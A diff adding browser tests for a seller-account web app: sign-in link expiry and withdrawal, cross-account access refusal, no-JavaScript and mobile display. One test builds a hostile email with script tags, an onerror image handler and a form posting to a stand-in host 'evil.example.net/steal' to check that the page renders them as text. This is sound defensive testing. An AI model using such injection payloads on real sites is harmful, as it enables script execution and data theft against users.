@@ -83,3 +83,121 @@ def test_held_notice_accepted_from_the_overview(site, browser) -> None:
     assert "the message is now listed" in browser.get_by_role("status").inner_text()
     assert site.cli.checks("115-0000000-0000002")[0]["listed"] is True
     assert browser.locator("tr", has_text="115-0000000-0000002").count() == 0
+
+
+def test_expired_altered_and_withdrawn_links_are_refused(site, browser, engine) -> None:
+    """A link past its time, one altered by a character, and one withdrawn with `optout accounts
+    unlink` each give a 401 page saying what happened and how to get a new link; withdrawing a
+    link also signs out the browser that used it."""
+    from sqlalchemy import update
+
+    from optout.record.signin import LINK
+
+    expired = site.link(valid="30m")
+    with engine.begin() as conn:  # half an hour passes
+        conn.execute(update(LINK).values(expires_at=LINK.c.created_at))
+    answer = browser.goto(expired)
+    assert answer.status == 401
+    assert browser.get_by_role("heading", level=1).inner_text() == "This sign-in link does not work"
+    assert "has expired" in browser.inner_text("main") and "new link" in browser.inner_text("main")
+    accessible(browser)
+    shot(browser, "signin-link-expired")
+
+    good = site.link()
+    altered = good[:-1] + ("A" if good[-1] != "A" else "B")
+    assert browser.goto(altered).status == 401
+    assert "not valid" in browser.inner_text("main")
+
+    assert browser.goto(good).status == 200 and browser.url.endswith("/account/acme")
+    assert site.cli("accounts", "unlink", "acme").exit_code == 0
+    assert browser.reload().status == 401  # signed out at once
+    assert "Please sign in" in browser.inner_text("h1")
+    assert browser.goto(good).status == 401
+    assert "withdrawn" in browser.inner_text("main")
+
+
+def test_another_accounts_pages_stay_closed(site, browser) -> None:
+    """Signed in as one seller, every page of another account is refused: its page, its CSV, its
+    quarantine's button, the operator overview; and an account that does not exist looks the same."""
+    site.cli("accounts", "add", "rival")
+    site.send(b"From: someone@example.org\r\nSubject: hello\r\n\r\nnot a notice 116-1111111-1111111\r\n", slug="rival")
+    browser.goto(site.link("acme"))
+    for path in ("/account/rival", "/account/rival/entries.csv", "/account/nosuch", "/admin"):
+        answer = browser.goto(site.base + path)
+        assert answer.status == 403, path
+        assert "116-1111111-1111111" not in browser.content()
+    assert "belongs to another seller account" in browser.goto(site.base + "/account/rival").text()
+    accessible(browser)
+    shot(browser, "another-account-refused")
+
+
+def test_a_hostile_message_is_shown_as_text(site, browser) -> None:
+    """A quarantined message whose headers carry script, a form and a remote image: the page
+    shows them as text; nothing runs, nothing is fetched, no dialog opens."""
+    hostile = ("From: <script>alert('from')</script> <x@example.org>\r\n"
+               "Subject: <img src=\"http://images.example.net/pixel.png\" onerror=\"alert(1)\">\r\n"
+               "X-Form: <form action=\"http://evil.example.net/steal\"><input name=k></form>\r\n"
+               "Content-Type: text/html\r\n\r\n"
+               "<html><body><script>alert(2)</script><img src=\"http://images.example.net/b.png\">"
+               "order 117-2222222-3333333</body></html>\r\n").encode()
+    site.send(hostile)
+    dialogs, outside = [], []
+    browser.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    browser.on("request", lambda r: outside.append(r.url) if not r.url.startswith(site.base) else None)
+    browser.goto(site.link())
+    item = browser.locator(".held li").first
+    item.get_by_text("Message headers").click()
+    shown = item.locator("pre").inner_text()
+    assert "<script>alert('from')</script>" in shown and '<img src="http://images.example.net/pixel.png"' in shown
+    assert "<form action=" in shown
+    assert browser.locator("script").count() == 1  # the page's own
+    assert browser.locator("img").count() == 0
+    assert browser.locator("form[action^='http']").count() == 0
+    assert not dialogs and not outside
+    accessible(browser)
+    shot(browser, "hostile-message-as-text")
+
+
+def test_works_without_javascript(site, chromium) -> None:
+    """With JavaScript off: the address is in a field to select, times read in UTC, and the
+    "recognise again" form works."""
+    site.send(b"From: a@example.org\r\nSubject: hi\r\n\r\nno notice here\r\n")
+    context = chromium.new_context(java_script_enabled=False)
+    page = context.new_page()
+    try:
+        page.goto(site.link())
+        assert page.input_value("#address") == site.address()
+        assert not page.get_by_role("button", name="Copy").is_visible()
+        assert page.locator("time").first.inner_text().endswith(" UTC")
+        page.get_by_role("button", name="Recognise again").click()
+        assert page.url.endswith("/account/acme?done=retried&outcome=quarantined#quarantine")
+        assert "still not recognised" in page.locator(".note").inner_text()
+        shot(page, "seller-account-no-javascript")  # (axe itself needs JavaScript: it runs on the other pages)
+    finally:
+        context.close()
+
+
+def test_local_time_with_utc_on_hover_and_a_phone_screen(site, chromium) -> None:
+    """In Tokyo the times read in Tokyo's zone, the UTC time on hover; the copy button copies
+    the address; on a phone's width nothing needs sideways scrolling but the tables."""
+    site.send(as_bytes(notice("en", ORDER, msgid="<t1@amazon.com>")))
+    context = chromium.new_context(timezone_id="Asia/Tokyo", locale="en-US", viewport={"width": 390, "height": 844},
+                                   permissions=["clipboard-read", "clipboard-write"])
+    page = context.new_page()
+    try:
+        page.goto(site.link())
+        stamp = page.locator("time").first
+        utc = stamp.get_attribute("title")
+        assert utc and utc.endswith(" UTC")
+        hour_utc = int(utc[11:13])
+        shown = stamp.inner_text()
+        assert "UTC" not in shown
+        assert re.search(rf"\b{((hour_utc + 9) % 24) % 12 or 12}:{utc[14:16]}\s?[AP]M", shown), (shown, utc)
+        page.get_by_role("button", name="Copy").click()
+        until(lambda: page.locator(".copied").inner_text() == "Copied", what="the copy button's answer")
+        assert page.evaluate("navigator.clipboard.readText()") == site.address()
+        assert page.evaluate("document.documentElement.scrollWidth") <= 390
+        accessible(page)
+        shot(page, "seller-account-phone")
+    finally:
+        context.close()
